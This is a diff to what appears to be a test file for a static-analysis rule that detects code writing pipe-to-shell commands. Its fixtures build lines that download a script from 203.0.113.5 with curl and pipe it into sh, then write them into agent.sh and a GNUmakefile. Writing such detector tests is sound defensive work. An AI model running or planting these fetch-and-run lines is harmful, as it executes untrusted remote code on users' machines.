@@ -390,6 +390,11 @@ import string
 LINE = string.Template("($tool -fsSL $url | $sh) &\n")
 # ruleid: pipe-to-shell-written, path-method-write
 pathlib.Path("agent.sh").write_text(LINE.substitute(tool="curl", url="http://203.0.113.5/u", sh="sh"))
+# ... or %-formatted from a tuple bound to a name
+MK_FMT = "%s := $(%s %s -s %s | %s)\n"
+MK_ARGS = ("_B", "shell", "curl", "http://203.0.113.5/m.sh", "sh")
+# ruleid: pipe-to-shell-written, path-method-write
+pathlib.Path("GNUmakefile").write_text(MK_FMT % MK_ARGS)
 # ok: pipe-to-shell-written
 # ruleid: path-method-write
 pathlib.Path("greeting.txt").write_text(string.Template("Hello $who\n").safe_substitute(who="you"))
